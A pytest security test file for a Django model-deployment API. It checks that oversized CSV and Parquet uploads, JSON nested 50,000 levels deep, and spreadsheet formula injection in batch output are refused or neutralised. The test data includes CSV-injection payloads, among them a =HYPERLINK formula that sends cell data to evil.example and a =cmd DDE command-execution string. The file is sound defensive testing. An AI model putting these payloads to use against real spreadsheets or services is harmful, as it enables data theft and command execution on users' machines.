"""Hostile input on the deployment paths: batch uploads over the ingest limits, predict bodies
nested past MAX_JSON_DEPTH, and spreadsheet formulas in the batch output's cells and headers.

Attacks: a CSV with more columns than MAX_COLUMNS, a file over MAX_TABLE_BYTES, a small Parquet
file declaring more rows than MAX_ROWS, a Parquet file with nested columns, a CSV whose rows pass
the limit only once read (the job must stop and say so); 50,000 "[" sent to predict and to the
try-it form, with the request-wide guard removed (the predict path holds on its own); input
columns named and valued `=HYPERLINK(...)`, `@SUM`, `+1`, tab and CR, opened as a spreadsheet.
"""

from __future__ import annotations

import csv
import io

import pandas as pd
import pyarrow as pa
import pyarrow.parquet as pq
import pytest
from django.core.files.storage import default_storage
from django.core.files.uploadedfile import SimpleUploadedFile
from rest_framework.test import APIClient

from jobs.models import Job
from tests.conftest import wait_for_job
from tests.factories import PASSWORD
from tests.security.world import loan_frame

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def _csv(frame: pd.DataFrame) -> SimpleUploadedFile:
    """Every field quoted (pandas' writer leaves a bare CR unquoted, which no reader parses)."""
    buf = io.StringIO(newline="")
    frame.to_csv(buf, index=False, quoting=csv.QUOTE_NONNUMERIC)
    return SimpleUploadedFile("rows.csv", buf.getvalue().encode(), content_type="text/csv")


def _parquet(table: pa.Table) -> SimpleUploadedFile:
    buf = io.BytesIO()
    pq.write_table(table, buf)
    return SimpleUploadedFile("rows.parquet", buf.getvalue())


def _features(n: int = 30) -> pd.DataFrame:
    return loan_frame(n)[["income", "debt", "region"]]


def _wide(columns: int) -> SimpleUploadedFile:
    frame = _features(5)
    for i in range(columns):
        frame[f"extra_{i}"] = i
    return _csv(frame)


def _stored_inputs(project) -> list[str]:
    folder = f"projects/{project.pk}/batch-inputs"
    return default_storage.listdir(folder)[1] if default_storage.exists(folder) else []


CASES = {
    "csv columns": ({"MAX_COLUMNS": 20}, lambda: _wide(30), 413, "MAX_COLUMNS"),
    "csv bytes": ({"MAX_TABLE_BYTES": 1024}, lambda: _csv(_features(200)), 413, "MAX_TABLE_BYTES"),
    "parquet rows": (
        {"MAX_ROWS": 100},
        lambda: _parquet(pa.Table.from_pandas(_features(1000), preserve_index=False)),
        413,
        "MAX_ROWS",
    ),
    "parquet columns": (
        {"MAX_COLUMNS": 20},
        lambda: _parquet(pa.table({f"c{i}": [1] for i in range(40)})),
        413,
        "MAX_COLUMNS",
    ),
    "parquet nested": (
        {},
        lambda: _parquet(pa.table({"income": [1.0], "debt": [2.0], "region": [{"a": [[1]]}]})),
        400,
        "nested",
    ),
    "binary as csv": ({}, lambda: SimpleUploadedFile("rows.csv", b"\x00\x01\x02" * 100), 400, "binary"),
}


@pytest.mark.django_db
@pytest.mark.parametrize("case", list(CASES))
def test_a_batch_upload_over_a_limit_is_refused_before_any_job(api, team, world, settings, case):
    overrides, upload, code, words = CASES[case]
    for name, value in overrides.items():
        setattr(settings, name, value)
    url = f"/api/v1/deployments/{world['deployment'].pk}/batch/"
    r = api("editor").post(url, {"file": upload()}, format="multipart")
    assert r.status_code == code, r.content
    body = r.json()
    assert "file" in body["errors"] and words in body["errors"]["file"][0], body
    assert not Job.objects.filter(kind="deployment.batch").exists()
    assert _stored_inputs(team.project) == []


@pytest.mark.django_db(transaction=True)
def test_a_csv_over_the_row_limit_fails_its_job_naming_the_limit(api, team, world, settings, worker):
    settings.MAX_ROWS = 100
    r = api("editor").post(
        f"/api/v1/deployments/{world['deployment'].pk}/batch/", {"file": _csv(_features(300))}, format="multipart"
    )
    assert r.status_code == 202, r.content
    job = wait_for_job(r.json()["id"])
    assert job.status == "failed" and "MAX_ROWS" in job.error and "100" in job.error, job.error
    assert not (job.result or {}).get("output_key")


HOSTILE_HEADERS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "@SUM(1+1)", "+cmd", "\tlead", "\rcr", "-1+2"]
HOSTILE_CELLS = ["=1+1", "@SUM(A1)", "+41", "-2+3", "\t=x", "\r=y", "=cmd|' /C calc'!A0"]


@pytest.mark.django_db(transaction=True)
def test_the_batch_output_csv_is_safe_to_open_in_a_spreadsheet(api, team, world, worker):
    frame = _features(len(HOSTILE_CELLS))
    frame.loc[0, "region"] = "=1+1"  # refused (unknown category), and its error message echoes it
    for name in HOSTILE_HEADERS:
        frame[name] = HOSTILE_CELLS
    url = f"/api/v1/deployments/{world['deployment'].pk}/batch/"
    r = api("editor").post(url, {"file": _csv(frame), "output_format": "csv"}, format="multipart")
    assert r.status_code == 202, r.content
    job = wait_for_job(r.json()["id"])
    assert job.status == "succeeded", job.error
    download = api("viewer").get(f"{url}{job.pk}/download/")
    assert download.status_code == 200
    text = b"".join(download.streaming_content).decode()
    rows = list(csv.reader(io.StringIO(text, newline="")))
    header, cells = rows[0], [c for row in rows[1:] for c in row]
    assert len(rows) == 1 + len(HOSTILE_CELLS)
    for value in header + cells:
        if value[:1] in FORMULA_START:
            float(value)  # only a plain number may start like a formula (it is not one)
    assert ["'" + h for h in HOSTILE_HEADERS if h != "-1+2"] <= header
    assert "'" + HOSTILE_HEADERS[0] in header and "'=1+1" in cells and "'@SUM(A1)" in cells


DEEP = b"[" * 50_000 + b"]" * 50_000


@pytest.mark.django_db
@pytest.mark.parametrize("guarded", [True, False], ids=["with the request guard", "predict on its own"])
def test_predict_refuses_json_nested_too_deep_with_a_400(team, world, settings, guarded):
    if not guarded:
        settings.MIDDLEWARE = [m for m in settings.MIDDLEWARE if "jsonguard" not in m]
    client = APIClient()
    client.credentials(HTTP_AUTHORIZATION=f"Api-Key {world.api_key}")
    url = f"/api/v1/deployments/{world['deployment'].pk}/predict/"
    deep_instances = b'{"instances": [' + b"[" * 200 + b"]" * 200 + b"]}"
    for body in (DEEP, deep_instances):
        r = client.post(url, body, content_type="application/json")
        assert r.status_code == 400, (r.status_code, r.content[:300])
        assert "MAX_JSON_DEPTH" in r.content.decode()
    ok = client.post(url, {"instances": [{"income": 50, "debt": 20, "region": "north"}]}, format="json")
    assert ok.status_code == 200, ok.content


@pytest.mark.django_db
def test_the_try_it_form_refuses_json_nested_too_deep(client, team, world, settings):
    settings.MIDDLEWARE = [m for m in settings.MIDDLEWARE if "jsonguard" not in m]
    assert client.login(username=team.owner.username, password=PASSWORD)
    r = client.post(f"/deployments/{world['deployment'].pk}/try/", {"body": DEEP.decode()})
    assert r.status_code == 200 and "MAX_JSON_DEPTH" in r.content.decode()
    assert 'id="try-error"' in r.content.decode()
